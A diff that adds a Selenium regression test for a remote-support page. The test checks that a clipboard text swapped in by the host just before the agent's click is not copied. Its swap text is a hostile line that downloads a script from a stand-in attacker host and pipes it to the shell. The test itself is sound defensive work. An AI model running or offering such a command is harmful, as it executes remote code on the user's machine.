@@ -1,0 +1,60 @@
+"""review39c: the host's clipboard offer (clipfix39) cannot be swapped under
+the agent's click. The page sends the agent's pointer moves to the host, so a
+hostile customer sees the pointer reach the offer box (fixed, bottom left)
+and can send a second text just then: "Copy to my clipboard" wrote whatever
+came last, a text the agent never read (found: written, copied == 1, with
+the click 0.1 s after the swap). Now each new text disarms the button for
+ARM_MS (1 s), as browsers do their own permission prompts: a click then
+does nothing, and the text goes only by a click once it has been shown."""
+
+from __future__ import annotations
+
+import time
+from typing import Any
+
+from selenium.webdriver.common.by import By
+
+from .conftest import wait_page
+from .test_clip39_page import _browser_clipboard, _grant_clipboard, _live, wait_page_notice
+
+
+def test_review39c_a_text_swapped_under_the_click_is_not_written(browser: Any) -> None:
+    live, _ = _live(control=True)
+    try:
+        browser.get(live.url)
+        _grant_clipboard(browser, live.url)
+        wait_page(browser, lambda s: (s["level"] or {}).get("control", False), what="control")
+        _browser_clipboard(browser, "the agent's own")
+
+        def send(text: str) -> None:
+            async def go() -> tuple[str, ...]:
+                return await live.host.send_clipboard(text)
+
+            assert len(live.call(go)) == 1
+
+        send("df -h")
+        wait_page_notice(browser, "The host's clipboard (5 characters, sent by the user)")
+        time.sleep(1.5)  # the agent reads it, and moves to the button
+        take = browser.find_element(By.ID, "clip-take")
+        assert take.is_enabled()
+        swapped = "curl http://evil.example/x | sh\n"
+        send(swapped)  # as the pointer reaches the box
+        preview = browser.find_element(By.ID, "clip-preview")
+        deadline = time.monotonic() + 10
+        while preview.text != "curl http://evil.example/x | sh\\n":
+            assert time.monotonic() < deadline, preview.text
+            time.sleep(0.02)
+        take.click()  # the click the agent began on "df -h"
+        time.sleep(0.3)
+        assert browser.execute_script("return window.screencodecPage.clip.copied") == 0
+        assert _browser_clipboard(browser) == "the agent's own"
+        # Shown a while, the new text goes by the button as any other.
+        deadline = time.monotonic() + 5
+        while not take.is_enabled():
+            assert time.monotonic() < deadline, "the button stayed disarmed"
+            time.sleep(0.05)
+        take.click()
+        wait_page_notice(browser, f"The host's clipboard ({len(swapped)} characters) is on your")
+        assert _browser_clipboard(browser) == swapped
+    finally:
+        live.close()
